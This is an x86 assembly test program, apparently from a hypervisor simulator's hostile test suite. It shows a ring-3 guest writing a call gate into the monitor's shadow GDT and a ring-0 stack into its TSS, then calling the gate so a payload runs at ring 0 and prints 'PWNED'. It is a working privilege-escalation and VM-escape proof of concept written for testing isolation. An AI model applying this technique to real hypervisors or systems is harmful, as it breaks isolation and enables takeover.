# shadow_write.S - ring 3 writes a call gate into the monitor's shadow GDT and a stack into its TSS.
#
# Reading the monitor's memory (monitor_read.S) is a leak; writing it is an escape. Under trap the
# real GDT while ring 3 runs is hvsim's user-view shadow at 0xFFC10000, and the real TR is hvsim's
# TSS at 0xFFC21000. A ring-3 program puts a DPL-3 call gate to the monitor's ring-0 code selector
# (0xFFE8) in an empty slot of that shadow, gives the monitor's TSS a ring-0 stack (SS0 0xFFF0,
# ESP0 in guest RAM), and calls the gate: the payload prints PWNED with its real CS RPL. On the
# bare machine those addresses are unassigned, the writes are dropped, and the lcall finds the
# guest's own empty slot: #GP with the slot's selector as error code.

main:
    call hv_setup
    mov esi, w_name
    call puts
    mov eax, w_user
    mov ebx, SEL_UCODE
    mov ecx, 0x2
    mov edx, SEL_UDATA
    mov esi, hv_stack3_top
    jmp hv_enter_ring

w_user:
    mov eax, 1
    mov ebx, w_write
    int 0x80
    mov edi, 0xffc10000                         # (keystone mis-assembles `0xffc10000 + SLOT_A`)
    mov eax, w_payload
    mov word ptr [edi + SLOT_A], ax
    mov word ptr [edi + SLOT_A + 2], 0xffe8
    mov byte ptr [edi + SLOT_A + 4], 0
    mov byte ptr [edi + SLOT_A + 5], 0xec       # call gate, DPL 3, present
    shr eax, 16
    mov word ptr [edi + SLOT_A + 6], ax
    mov edi, 0xffc21000
    mov dword ptr [edi + 4], hv_stack1_top      # ESP0
    mov dword ptr [edi + 8], 0xfff0             # SS0
    mov eax, 1
    mov ebx, w_call
    int 0x80
    mov dword ptr [fault_resume], w_after
    .byte 0x9a; .long 0; .word SLOT_A + 3       # lcall SLOT_A|3:0
w_after:
    mov eax, 1
    mov ebx, w_done
    int 0x80
    mov eax, 2
    mov ebx, 0
    int 0x80

w_payload:
    mov eax, hv_escaped
    call eax
    mov eax, cr0
    mov esi, w_pwned
    mov eax, hv_print_cs
    call eax
    mov al, PWNED_EXIT
    mov edx, exit
    jmp edx

w_name:  .asciz "shadow_write\n"
w_write: .asciz "user: writing a gate at 0xffc10050 and a stack into 0xffc21000\n"
w_call:  .asciz "user: lcall 0x53:0\n"
w_done:  .asciz "user: carried on after the lcall\n"
w_pwned: .asciz "PWNED: the gate's target ran with real cs rpl "

.include "hostile.S"
